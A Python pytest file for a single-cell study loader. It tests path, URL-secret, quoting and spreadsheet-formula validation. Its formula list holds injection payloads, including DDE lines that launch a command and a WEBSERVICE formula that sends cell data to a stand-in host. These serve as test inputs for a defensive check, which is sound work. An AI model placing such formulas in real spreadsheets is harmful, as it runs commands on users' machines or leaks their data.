"""What a study tells of its runs and of the columns of its sheet."""

from types import SimpleNamespace

import anndata as ad
import numpy as np
import pandas as pd
import pytest
from count_matrices import genes

from latere.errors import StudyError
from latere.study.check import check_files, check_given
from latere.study.config import load_schema
from latere.study.contrasts import check_contrasts, covariates_of
from latere.study.sheet import Run, check_rows, expand_rows, read_sheet
from latere.study.study import load_study
from latere.values import is_formula

CONTRAST = {
    "column": "stage",
    "case": "late",
    "control": "early",
    "covariates": [],
    "numeric_covariates": [],
}


@pytest.mark.parametrize(
    ("run", "source"),
    [
        (Run("r", "s", sra="SRR1"), "SRR1"),
        (Run("r", "s", fastq=(("a_1.fq",), ("a_2.fq",))), "a_1.fq, a_2.fq"),
        (Run("r", "s", matrix=("m.mtx", "b.tsv", "g.tsv")), "m.mtx"),
        (Run("r", "s", matrix=("a.h5",), barcodes="raw"), "a.h5 (raw)"),
        (
            Run("r", "s", matrix=("a.h5ad",), layer="counts", subset="donor=d 1"),
            "a.h5ad (layer counts, donor=d 1)",
        ),
    ],
)
def test_source_of_a_run_in_words(run, source):
    assert run.source == source


def test_contrast_over_a_column_that_was_left_out_says_why(tmp_path):
    obs = pd.DataFrame({"donor": ["d1", "d1", "d2"], "stage": ["late", "early", "early"]})
    obs.index = ["a", "b", "c"]
    ad.AnnData(np.ones((3, 2)), obs=obs, var=genes(2)).write_h5ad(tmp_path / "a.h5ad")
    sheet = [(2, {"matrix": str(tmp_path / "a.h5ad"), "split": "donor"})]
    rows, left_out = expand_rows(sheet, "sheet.tsv")
    assert [(line, row["run"]) for line, row in rows] == [(2, "d1"), (2, "d2")]
    samples = {"d1": {"age": "61"}, "d2": {"age": "7"}}
    (error,) = check_contrasts({"c": CONTRAST}, samples, "c.yaml", "sheet.tsv", left_out)
    problem = "column 'stage' is not in sheet.tsv (not alike in all cells of 'd1')"
    assert (
        error.code == "missing-column"
        and error.problem == problem
        and "describe samples: age." in error.fix
    )


@pytest.fixture
def load(tmp_path, root, monkeypatch):
    """Load a study of two runs, the first with changes, in a folder of its own."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "config").symlink_to(root / "config")

    def call(config=None, submits=False, **row):
        rows = [{"run": "r1", "sample": "s1", "matrix": "https://h.org/a.h5ad"} | row]
        rows += [{"run": "r2", "sample": "s2", "matrix": "https://h.org/b.h5ad"}]
        columns = list(rows[0])
        lines = [columns, *([each.get(column, "") for column in columns] for each in rows)]
        (tmp_path / "sheet.tsv").write_text("".join("\t".join(line) + "\n" for line in lines))
        study = {"study": "x", "samples": "sheet.tsv", "contrasts": {}}
        return load_study(study | (config or {}), "study.yaml", tmp_path / "config", submits)

    return call


REJECTED = {"x{x}": "brace-in-path", "https://u:SECRET123@h.org/x": "login-in-url"}


@pytest.mark.parametrize("path", REJECTED)
@pytest.mark.parametrize("column", ["matrix", "sra", "fastq_1", "fastq_2", "fastq_3", "fastq_4"])
def test_a_path_that_would_be_misread_is_rejected_with_its_cell(load, column, path):
    for value in (path, f"a.fq, {path}"):
        with pytest.raises(StudyError, match=f"^sheet.tsv, row 2, column '{column}': ") as error:
            load(**{"matrix": "", column: value})
        assert "SECRET123" not in str(error.value) and set(error.value.codes) == {REJECTED[path]}


PATHS = {"samples", "resources", "chemistries", "published_cells", "reference.fasta"}
PATHS |= {"reference.gtf", "cells.gene_sets", "annotation.markers", "annotation.celltypist_model"}


@pytest.mark.parametrize("path", REJECTED)
@pytest.mark.parametrize("key", sorted(PATHS))
def test_a_path_that_would_be_misread_is_rejected_with_its_key(load, key, path):
    section, _, name = key.rpartition(".")
    config = {section: {name: path}} if section else {name: path}
    with pytest.raises(StudyError, match=f"^study.yaml: key '{key}': ") as error:
        load(config)
    assert "SECRET123" not in str(error.value) and set(error.value.codes) == {REJECTED[path]}


def test_the_path_of_a_file_in_a_folder_is_rejected_too(load, tmp_path):
    (tmp_path / "folder").mkdir()
    ad.AnnData(np.ones((3, 2)), var=genes(2)).write_h5ad(tmp_path / "folder/a{b}.h5ad")
    with pytest.raises(
        StudyError, match=r"row 2 \(run r1\): column 'matrix': 'folder/a{b}.h5ad': .*brace-in-path"
    ):
        load(matrix="folder")


def test_the_path_of_a_list_of_barcodes_is_rejected_too(load, tmp_path, root):
    header, *rows = (root / "config/chemistries.tsv").read_text().splitlines()
    row = next(row for row in rows if row.startswith("10xv2\t"))
    row = row.replace("10x_version2_whitelist.txt.gz", "lists{x}/list.txt")
    (tmp_path / "table.tsv").write_text(f"{header}\n{row}\n")
    with pytest.raises(StudyError, match="^table.tsv, row 2, column 'whitelist': has '{'"):
        load({"chemistries": "table.tsv"})


def test_secrets_of_urls_are_with_the_study_and_with_nothing_else(load):
    secret = "https://h.org/{}?X-Amz-Signature=SECRET123"
    model, matrix = secret.format("m.pkl"), secret.format("a.h5ad")
    reference = {"fasta": secret.format("a.fa"), "gtf": secret.format("a.gtf")}
    config = {"annotation": {"celltypist_model": model}, "reference": reference}
    study = load(config, matrix=matrix)
    shown = repr((study, study.runs["r1"].source))
    assert "SECRET123" not in shown and "https://h.org/a.h5ad?X-Amz-Signature=***#query-" in shown
    (of_run,) = study.runs["r1"].matrix
    assert study.urls[of_run] == matrix
    assert study.urls[study.config["annotation"]["celltypist_model"]] == model
    assert study.urls["https://h.org/b.h5ad"] == "https://h.org/b.h5ad" and len(study.urls) == 5


def test_urls_that_differ_in_their_query_are_two_sources(load):
    load(matrix="https://h.org/b.h5ad?id=1")
    with pytest.raises(StudyError, match=r"used 2 times.*\[duplicated-source\]"):
        load(matrix="https://h.org/b.h5ad")


RUNS_IN_A_SPREADSHEET = ["=1+1", "=cmd|'/c calc'!A0", "@SUM(A1)", "+cmd|'/c calc'!A0"]
RUNS_IN_A_SPREADSHEET += ["-2+3+cmd|'/c calc'!A0", '-HYPERLINK("http://h")', "＝1+1", " =1"]
RUNS_IN_A_SPREADSHEET += [
    "+hyperlink(A1)",
    '-WEBSERVICE(CONCATENATE("http://h", A1))',
    "+cmd|/c!A0",
]
# A genotype, numbers, names.
RUNS_IN_NONE = [
    "+/-",
    "-/-",
    "-",
    "-80 C (dry)",
    "-0.5",
    "+1",
    "CD4+ (naive)",
    "a=b",
    "x@y",
    "",
    "5'!",
    "+Dox(1ug/ml)",
    "-TGFb|+IL2",
    "- | -",
    "@rest",
]


@pytest.mark.parametrize("text", RUNS_IN_A_SPREADSHEET)
def test_formulas_do_not_get_in(text, root, tmp_path):
    """By the sheet with row and column; a column of an .h5ad is left out."""
    schema = load_schema(root / "config/schemas/samples.schema.yaml")
    rows = [(2, {"run": "r1", "sample": "s", "sra": "SRR1", "dose": text, "sex": "female"})]
    with pytest.raises(StudyError, match="sheet.tsv, row 2, column 'dose': .*formula."):
        check_rows(rows, "sheet.tsv", schema)
    obs = pd.DataFrame({"donor": ["d1", "d2"], "dose": [text, "5"], "sex": "female"})
    ad.AnnData(np.ones((2, 2)), obs=obs.set_index(pd.Index(["a", "b"])), var=genes(2)).write_h5ad(
        tmp_path / "a.h5ad"
    )
    sheet = [(2, {"matrix": str(tmp_path / "a.h5ad"), "split": "donor"})]
    rows, left_out = expand_rows(sheet, "sheet.tsv")
    assert list(left_out) == ["dose"] and "formula" in left_out["dose"]
    assert all(row["sex"] == "female" for _, row in rows)


@pytest.mark.parametrize("text", RUNS_IN_NONE)
def test_what_only_looks_like_a_formula_gets_in(text):
    assert not is_formula(text)


def test_blanks_of_every_width_and_joined_letters_are_seen(root, tmp_path):
    """Those of typists in France and Japan, and of Persian words; a zero-width space is not."""
    schema = load_schema(root / "config/schemas/samples.schema.yaml")
    seen = ["37\xa0°C", "対照\u3000群", "می\u200cخواهم"]
    for value in seen:
        check_rows([(2, {"run": "r", "sample": "s", "sra": "SRR1", "site": value})], "x", schema)
    obs = pd.DataFrame({"donor": ["d1", "d2"], "site": seen[0], "copied": "a\u200b"})
    path = tmp_path / "a.h5ad"
    ad.AnnData(np.ones((2, 2)), obs=obs.set_index(pd.Index(["a", "b"])), var=genes(2)).write_h5ad(
        path
    )
    rows, left_out = expand_rows([(2, {"matrix": str(path), "split": "donor"})], "sheet.tsv")
    check_rows(rows, "sheet.tsv", schema)
    assert all(row["site"] == seen[0] for _, row in rows)
    assert list(left_out) == ["copied"] and "invisible" in left_out["copied"]


def test_quotes_in_paths_are_rejected_where_jobs_are_submitted(load, tmp_path, root):
    """The executor puts the names of input files between quotes."""
    (tmp_path / "O'Brien").mkdir()
    matrix = tmp_path / "O'Brien/a.h5ad"
    ad.AnnData(np.ones((3, 2)), var=genes(2)).write_h5ad(matrix)
    load(matrix=str(matrix))
    with pytest.raises(StudyError, match=r"row 2 \(run r1\): '.*O'Brien/a.h5ad' .*.quote-in-path."):
        load(matrix=str(matrix), submits=True)


EXCEL = {
    "quotes": 'run\tsample\tmatrix\tnote\na\ts\t"m,1.h5ad"\t"AML, ""relapsed"""\n',
    "all in quotes": '"run"\t"sample"\t"matrix"\t"note"\r\n"a"\t"s"\t"m,1.h5ad"\t'
    '"AML, ""relapsed"""\r\n',
    "empty columns": 'run\tsample\tmatrix\tnote\t\t\na\ts\tm,1.h5ad\tAML, "relapsed"\t\t\n',
    "empty columns in some rows": 'run\tsample\tmatrix\tnote\t\na\ts\tm,1.h5ad\tAML, "relapsed"\n',
    "rows of empty cells": 'run\tsample\tmatrix\tnote\na\ts\tm,1.h5ad\tAML, "relapsed"\n'
    '\t\t\t\n""\t""\t""\t""\n',
    "mark of UTF-8": '\ufeff"run"\tsample\tmatrix\tnote\na\ts\tm,1.h5ad\tAML, "relapsed"\n',
}


@pytest.mark.parametrize("name", EXCEL)
def test_a_sheet_as_spreadsheets_save_it(tmp_path, name):
    path = tmp_path / "sheet.tsv"
    path.write_bytes(EXCEL[name].encode())
    row = {"run": "a", "sample": "s", "matrix": "m,1.h5ad", "note": 'AML, "relapsed"'}
    assert read_sheet(str(path)) == [(2, row)]


def test_numeric_covariates_are_numbers_of_the_samples_of_a_contrast():
    contrast = CONTRAST | {"covariates": ["batch"], "numeric_covariates": ["age"]}
    samples = {f"s{n}": {"stage": "late", "batch": "1", "age": f"{n}.5"} for n in (1, 2)}
    samples["other"] = {"stage": "early", "batch": "", "age": ""}
    values = covariates_of(contrast, samples, ["s2", "s1"])
    assert values == {"batch": {"s2": "1", "s1": "1"}, "age": {"s2": 2.5, "s1": 1.5}}


@pytest.mark.parametrize(("ages", "offered"), [("12 34 56 78", True), ("a b c d", False)])
def test_a_quantity_that_leaves_no_replicate_is_offered_as_a_number(ages, offered):
    stages = ["late", "late", "early", "early"]
    rows = [{"stage": stage, "age": age} for stage, age in zip(stages, ages.split(), strict=True)]
    samples = {f"s{number}": row for number, row in enumerate(rows)}
    contrasts = {"c": CONTRAST | {"covariates": ["age"]}}
    (error,) = check_contrasts(contrasts, samples, "c.yaml", "sheet.tsv", {})
    assert error.code == "confounded-covariate"
    assert error.problem == "the covariate 'age' has another value in each of the 4 samples"
    assert ("numeric_covariates" in error.fix) == offered
    contrasts["c"] |= {"covariates": [], "numeric_covariates": ["age"]}
    found = check_contrasts(contrasts, samples, "c.yaml", "sheet.tsv", {})
    assert [error.code for error in found] == ([] if offered else ["not-a-number"])


@pytest.mark.parametrize("name", ["Immune_All_Low.pkl", "Human_Lung_Atlas.pkl", "Immune_All_High"])
def test_a_model_by_name_is_told_where_to_find_it(load, name):
    with pytest.raises(StudyError, match=rf"'{name}' does not exist") as error:
        load({"annotation": {"celltypist_model": name}})
    assert "https://www.celltypist.org/models" in str(error.value)


@pytest.mark.parametrize("section", ["deep", "cells", "contrasts", "qc"])
def test_an_empty_section_is_called_empty(load, section):
    with pytest.raises(StudyError, match=rf"key '{section}': is empty \[wrong-type\]") as error:
        load({section: None})
    assert "to use its defaults, or fill it" in str(error.value) and "None" not in str(error.value)


@pytest.mark.parametrize("target", ["all", "report.html", "results/x/cells/cells.h5ad"])
def test_a_target_behind_the_configuration(tmp_path, capsys, target):
    (tmp_path / "c.yaml").write_text("study: x\n")
    with pytest.raises(SystemExit, match=rf"(?s)\[target-as-configuration\].*`-- {target}`"):
        check_files([tmp_path / "c.yaml", target])
    check_files([tmp_path / "c.yaml", tmp_path / "c.yaml"])


@pytest.mark.parametrize(
    ("entry", "line"),
    [
        ("deep.n_latent=20", "deep: {n_latent: 20}"),
        ("cells.samples.s1={min_genes: 1}", "cells: {samples: {s1: {min_genes: 1}}}"),
        ("contrasts.a.covariates=[b]", "contrasts: {a: {covariates: [b]}}"),
    ],
)
def test_a_key_with_dots_in_the_command_line(entry, line):
    options = SimpleNamespace(configfile=["c.yaml"], config=["seed=1", entry], directory=None)
    with pytest.raises(SystemExit, match=r"\[dotted-key\]") as error:
        check_given(options)
    assert f"`{line}`" in str(error.value)
